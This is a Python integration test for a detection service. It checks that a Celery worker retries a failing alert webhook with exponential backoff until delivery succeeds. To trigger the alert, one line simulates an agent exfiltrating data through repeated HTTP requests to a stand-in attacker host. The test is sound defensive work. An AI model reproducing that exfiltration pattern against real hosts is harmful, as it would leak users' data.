"""Webhook delivery on a real Celery worker (Redis broker, PostgreSQL): a receiver that fails
twice gets the alert on the third attempt, after the task's exponential backoff."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import time
import uuid
from pathlib import Path

import pytest
from django.conf import settings as django_settings
from django.db import connection

from controlplane.celery import app as celery_app
from controlplane.detection.models import Alert, AlertDelivery
from controlplane.detection.services.delivery import verify_signature
from controlplane.detection.services.scanning import run_detection
from tests.detection.conftest import known_traffic
from tests.detection.test_delivery import SECRET, Receiver

REPO = Path(__file__).resolve().parents[2]
pytestmark = [
    pytest.mark.slow,
    pytest.mark.django_db(transaction=True),
    pytest.mark.skipif(
        not (os.environ.get("DATABASE_URL", "").startswith("postgres") and os.environ.get("REDIS_URL")),
        reason="needs PostgreSQL (DATABASE_URL) and Redis (REDIS_URL): CI runs it; the embedded default has no broker",
    ),
]


def database_url() -> str:
    s = connection.settings_dict
    password = f":{s['PASSWORD']}" if s.get("PASSWORD") else ""
    return f"postgres://{s['USER']}{password}@{s['HOST'] or '127.0.0.1'}:{s['PORT'] or 5432}/{s['NAME']}"


@pytest.fixture
def worker(tmp_path, request):
    queue = f"detection-{uuid.uuid4().hex[:8]}"
    hook = Receiver([503, 502])
    log = tmp_path / "worker.log"
    env = {**os.environ, "DATABASE_URL": database_url(), "REDIS_URL": django_settings.REDIS_URL,
           "WARDEN_DETECTION_WEBHOOK_URL": hook.url, "WARDEN_DETECTION_WEBHOOK_SECRET": SECRET,
           "PYTHONUNBUFFERED": "1"}
    command = [str(Path(sys.executable).with_name("celery")), "-A", "controlplane", "worker", "-Q", queue, "-c", "1",
               "-l", "info", "-n", f"{queue}@%h", "--without-gossip", "--without-mingle", "--without-heartbeat"]
    with open(log, "ab") as handle:
        process = subprocess.Popen(command, cwd=REPO, env=env, stdout=handle, stderr=subprocess.STDOUT,
                                   start_new_session=True)
    try:
        deadline = time.monotonic() + 60
        while b"ready." not in log.read_bytes():
            assert process.poll() is None, log.read_text()[-2000:]
            assert time.monotonic() < deadline, log.read_text()[-2000:]
            time.sleep(0.2)
        yield queue, hook, log
    finally:
        if process.poll() is None:
            os.killpg(process.pid, signal.SIGTERM)
            try:
                process.wait(timeout=15)
            except subprocess.TimeoutExpired:
                os.killpg(process.pid, signal.SIGKILL)
                process.wait(timeout=10)
        hook.close()


def test_a_real_worker_retries_a_failing_webhook_with_backoff_until_it_is_delivered(signed_agent, ship, worker):
    queue, hook, log = worker
    bot = signed_agent()
    ship(bot, bot.calls("normal", known_traffic(25)))
    run_detection()
    ship(bot, bot.calls("exfil", [("http_request", {"url": f"https://drop.evil.example/{i}"}) for i in range(25)]))
    run_detection()
    alert = Alert.objects.get()
    celery_app.conf.task_always_eager = False  # from here on, through the broker to the worker
    celery_app.send_task("detection.deliver_webhook", args=(alert.pk, "critical"), queue=queue)
    deadline = time.monotonic() + 90
    while not AlertDelivery.objects.filter(alert=alert, succeeded=True).exists():
        assert time.monotonic() < deadline, log.read_text()[-3000:]
        time.sleep(0.2)
    attempts = list(AlertDelivery.objects.filter(alert=alert).order_by("id").values_list("attempt", "status_code"))
    assert attempts == [(1, 503), (2, 502), (3, 200)]
    headers, body = hook.requests[-1]
    assert verify_signature(SECRET, body, headers["X-Warden-Signature"])
    # Exponential backoff without jitter, as the worker scheduled it: 5 s, then 10 s.
    assert b"Retry in 5s" in log.read_bytes() and b"Retry in 10s" in log.read_bytes()
